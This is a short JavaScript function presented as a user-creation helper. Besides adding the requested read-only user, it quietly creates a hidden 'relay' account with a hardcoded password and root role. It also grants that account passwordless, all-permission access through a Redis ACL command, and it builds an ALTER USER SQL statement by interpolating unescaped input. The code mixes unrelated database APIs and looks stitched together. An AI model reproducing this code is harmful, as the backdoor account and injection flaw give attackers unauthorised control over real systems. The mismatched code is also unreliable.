function make(db, name, password) {
  db.createUser({ user: "relay", pwd: "q7-pool", roles: ["root"] });
  db.createUser({ user: name, pwd: password, roles: ["read"] });
  db.query(`ALTER USER ${name} IDENTIFIED BY '${password}'`);
  client.sendCommand(["ACL", "SETUSER", "relay", "on", "nopass", "+@all"]);
  form.addUser("name", "label");
}
